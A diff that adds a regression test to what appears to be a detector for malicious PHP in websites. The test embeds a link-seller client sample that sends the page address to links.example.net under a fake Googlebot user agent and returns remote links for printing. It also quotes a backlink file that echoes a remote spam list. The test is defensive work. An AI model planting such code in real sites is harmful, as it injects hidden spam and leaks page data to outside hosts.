@@ -1580,6 +1580,20 @@ fn a_script_copying_itself_into_every_php_file_is_found() {
 }
 
 #[test]
+fn the_page_named_to_another_site_as_googlebot_is_a_link_sellers_client() {
+    // Regression: fresh119's and fresh82's `Get_links` class in a theme's `functions.php`: the
+    // page's address sent in a crawler's name, the links between the markers handed back.
+    let client = "<?php class Get_link2 { var $host = 'links.example.net'; var $path = '/system.php';\n\
+                  function get_remote() { $req_url = 'http://' . $_SERVER['HTTP_HOST'] . urldecode($_SERVER['REQUEST_URI']);\n\
+                  $ua = \"Mozilla/5.0 (compatible; Googlebot/2.1; \" . $req_url . \")\"; @ini_set('user_agent', $ua);\n\
+                  $data = @file_get_contents('http://' . $this->host . $this->path); preg_match('/<!--link-->(.*?)<!--link-->/', $data, $m); return $m[1]; } }";
+    assert_eq!(found(client), [Why::PrintsRemoteContent]);
+    // A test that sends a crawler's name of its own, the page's address apart.
+    let test = client.replace("\" . $req_url . \")\"", "http://www.google.com/bot.html)\"");
+    assert!(found(&test).is_empty(), "{:?}", found(&test));
+}
+
+#[test]
 fn a_link_list_fetched_from_another_site_and_printed_is_found() {
     // fresh100's `backlink.php` and a `wp-blog-header.php` cut to its loading lines.
     let backlink = "<?php echo file_get_contents(\"https://spam.example/Backlink3.txt\"); ?>";
